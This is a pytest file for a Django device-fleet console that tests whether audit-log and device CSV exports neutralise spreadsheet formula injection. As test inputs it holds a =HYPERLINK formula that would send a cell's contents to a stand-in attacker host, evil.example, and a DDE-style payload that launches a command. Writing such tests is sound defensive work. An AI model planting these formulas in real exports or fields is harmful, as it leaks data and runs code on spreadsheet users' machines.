"""Issue 10, input robustness: what an agent or an anonymous caller types
never becomes a formula in a spreadsheet, a 500, or a lost report."""

import csv
import io
import json

import pytest

from console.fleet.models import Device
from tests.console.conftest import enroll

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def _csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_audit_csv_neutralises_a_formula_typed_as_user_name(client, ui, users):
    # A failed sign-in by an anonymous caller, through the real login form.
    r = client.post("/login/", {"username": FORMULA, "password": "wrong"})
    assert r.status_code == 200
    r = ui("auditor").get("/audit/export.csv?action=auth.login_failed")
    rows = _csv_rows(r)
    assert len(rows) == 2
    cells = rows[1]
    assert cells[5] == "'" + FORMULA  # target: shown as text, not evaluated
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    assert json.loads(cells[9]) == {"username": FORMULA}  # the JSON cell is intact


@pytest.mark.parametrize(
    "hostname", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx"]
)
def test_device_csv_neutralises_agent_supplied_host_names(ui, users, small_fleet, hostname):
    device = enroll(small_fleet.token_plaintext, 1, prefix="x")[0]
    Device.objects.filter(pk=device.pk).update(hostname=hostname)
    rows = _csv_rows(ui("auditor").get("/devices/export.csv"))
    row = next(r for r in rows[1:] if r[-1] == str(device.pk))
    assert row[0] == "'" + hostname
    # numbers and ordinary text are left as they are
    plain = next(r for r in rows[1:] if r[0] == "pc-000")
    assert plain[9] == "0" and plain[-1] == str(small_fleet.devices[0].pk)
